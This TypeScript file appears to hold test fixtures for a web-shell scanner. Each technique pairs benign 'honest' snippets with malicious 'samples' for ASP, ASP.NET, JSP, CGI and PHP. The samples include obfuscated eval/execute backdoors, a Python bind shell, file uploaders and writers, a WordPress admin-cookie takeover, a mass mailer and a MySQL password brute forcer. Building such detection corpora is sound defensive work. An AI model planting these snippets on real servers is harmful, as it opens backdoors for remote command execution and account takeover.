import { php } from './spelling.ts'
import type { Technique } from './technique.ts'

/** Pages and programs for other servers, and PHP under another name. */
export const SERVERS: readonly Technique[] = [
  {
    name: 'ASP in pieces',
    severity: 'suspicious',
    extension: 'asp',
    samples: [
      '<% Set o = CreateObject("Scrip" & "ting.FileSys" & "temObject")\nSet f = o.CreateTextFile(Request("p"))\nf.Write Request("t") %>',
      '<% k = chr(101) & chr(118) & chr(97) & chr(108)\nexecute(k & " " & request("q")) %>',
      '<% execute(unescape("eval%20request(%22a%22)")) %>',
      '<% c = Request("c")\neval c \'nothing\n%>',
      'GIF89a<% execute(request("x")) %>',
      '<% Set p = GetObject("winmgmts:root/cimv2:Win32_Process")\np.Create Request("c"), Null, Null, n %>',
      '<% Set d = CreateObject("ADODB.Connection")\nd.Open Request("to")\nSet r = d.Execute(Request("q")) %>',
      '<% For Each v In Request.ServerVariables\nResponse.Write v & Request.ServerVariables(v)\nNext %>',
    ],
    honest: [
      '<% Response.Write "Hello " & Server.HTMLEncode(Request("name")) %>',
      '<% Response.Redirect "/index.php" %>',
    ],
  },
  {
    name: 'ASP.NET tools',
    severity: 'suspicious',
    extension: 'aspx',
    samples: [
      '<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) { System.IO.File.WriteAllBytes(Server.MapPath(u.FileName), u.FileBytes); }</script><asp:FileUpload id="u" runat="server"/>',
      '<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) { var p = PowerShell.Create(); p.AddScript(t.Text); p.Invoke(); }</script>',
      '<%@ Language="C#" Class="H" %> public class H : IHttpHandler { public void ProcessRequest(HttpContext c) { var m = typeof(System.Reflection.Assembly).GetMethod("Load", new[] { typeof(byte[]) }); m.Invoke(null, new object[] { Convert.FromBase64String(c.Request["k"]) }); } }',
      '<%@ WebHandler Language="C#" Class="T" %> public class T : IHttpHandler { public void ProcessRequest(HttpContext c) { var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(c.Request.Headers["X-To"], 80); } }',
      '<%@ Page Language="Jscript" %><% var n = "\\u0065val"; this[n](Request.Item["p"], "unsafe"); %>',
    ],
    honest: ['<%@ Page Language="C#" %><p>Opened at <%= DateTime.Now %></p>'],
  },
  {
    name: 'JSP tools',
    severity: 'suspicious',
    extension: 'jsp',
    samples: [
      '<% String u = request.getParameter("u"); java.net.URL a = new java.net.URL(u); out.print(a.openConnection().getContentType()); %>',
      '<% if (request.getHeader("X-To") != null) { SocketChannel c = SocketChannel.open(); c.connect(new InetSocketAddress(request.getHeader("X-To"), 22)); session.setAttribute("c", c); } %>',
      '<% \\u0052untime.get\\u0052untime().exec(request.getParameter("c")); %>',
      '<jsp:scriptlet>&#82;untime.get&#82;untime().exec(request.getParameter("c"));</jsp:scriptlet>',
    ],
    honest: [
      '<p><%= request.getContextPath() %></p>',
      '<%@ page contentType="text/html" %><% int n = 3; out.print(n); %>',
    ],
  },
  {
    name: 'scripts that show and listen',
    severity: 'suspicious',
    extension: 'cgi',
    samples: [
      '#!/usr/bin/perl\nmy $f = (split /=/, $ENV{QUERY_STRING})[1];\nprint "Content-Type: text/plain\\n\\n"; open(F, "< $f"); print while <F>;\n',
      '#!/usr/bin/perl\nuse CGI; my $q = CGI->new; my $d = $q->param("d"); opendir(D, $d); print join("\\n", readdir(D));\n',
      '#!/usr/bin/python\nimport os, socket\ns = socket.socket(); s.bind(("", 4000)); s.listen(1)\nc = s.accept()[0]\nwhile True:\n  c.send(os.popen(c.recv(999)).read())\n',
    ],
    honest: [
      '#!/usr/bin/perl\nprint "Content-Type: text/plain\\n\\n", scalar localtime, "\\n";\n',
      '#!/usr/bin/python\nimport socket\nprint(socket.gethostname())\n',
    ],
  },
  {
    name: 'PHP in texts',
    severity: 'suspicious',
    extension: 'txt',
    samples: [
      php(`$f = 'as' . 'se' . 'rt'; @$f($_POST['x']);`),
      '<?$f = $_GET["f"]; $f($_GET["v"]);?>',
      php(`$x = "${'\\x61'.repeat(240)}"; eval($x);`),
      '<html><body>\n<%\nfile = request("file")\nSet o = CreateObject("Scripting.FileSystemObject")\nResponse.Write o.OpenTextFile(file).ReadAll\n%>',
    ],
    honest: [
      'To add the widget, put <?php my_widget(); ?> into your theme.\n',
      '== Changelog ==\n= 1.2 =\n* The form reads $_POST only after the nonce was checked.\n',
    ],
  },
  {
    name: 'memory of PHP',
    severity: 'confirmed',
    samples: [
      php(
        `function leak($a, $n) { global $h; write($h, 0x10, $a); return strlen($h->v); }\nfunction write(&$s, $at, $v) { for ($i = 0; $i < 8; $i++) { $s[$at + $i] = chr($v & 0xff); $v >>= 8; } }\nfunction parse_elf($base) { return leak($base, 0x20); }\n$t = debug_backtrace(); parse_elf(0x400000);`,
      ),
    ],
    honest: [
      php(
        `function write($s) { fwrite(STDOUT, $s); }\nfunction read() { return fgets(STDIN); }\nwrite(chr(65 & 0xff));`,
      ),
    ],
  },
  {
    name: 'around the limits of files',
    severity: 'suspicious',
    samples: [
      php(
        `$t = tempnam('.', 'c'); copy('compress.zlib://' . $_POST['file'], $t); echo htmlspecialchars(file_get_contents($t));`,
      ),
      php(
        `$d = new PDO($_POST['dsn'], $_POST['user'], $_POST['pass']); foreach ($d->query($_POST['q']) as $r) print_r($r);`,
      ),
      php(
        `foreach (explode("\\n", $_POST['to']) as $to) mail(trim($to), $_POST['subject'], stripslashes($_POST['text']));`,
      ),
      php(
        `foreach (explode("\\n", $_POST['users']) as $u) foreach (explode("\\n", $_POST['words']) as $w) if (@mysql_connect('localhost', trim($u), trim($w))) echo "$u $w";`,
      ),
      php(`require '../wp-load.php'; $a = get_users(array('role' => 'administrator')); wp_set_auth_cookie($a[0]->ID);`),
      php(`$z = new ZipArchive; $z->open($_FILES['z']['tmp_name']); $z->extractTo('.');`),
      php(`$h = fopen(dirname(__FILE__) . '/' . $_GET['n'], 'w'); fwrite($h, $_POST['c']);`),
      php(`move_uploaded_file($upload, 'up.php');`),
    ],
    honest: [
      php(`$gz = fopen('compress.zlib://' . __DIR__ . '/data.gz', 'r'); echo fgets($gz);`),
      php(`$d = new PDO('sqlite:' . __DIR__ . '/shop.db'); echo $d->query('SELECT 1')->fetchColumn();`),
      php(`mail(get_option('admin_email'), 'A message', sanitize_textarea_field($_POST['text']));`),
      php(`$z = new ZipArchive; $z->open(__DIR__ . '/language.zip'); $z->extractTo(__DIR__ . '/languages');`),
    ],
  },
]
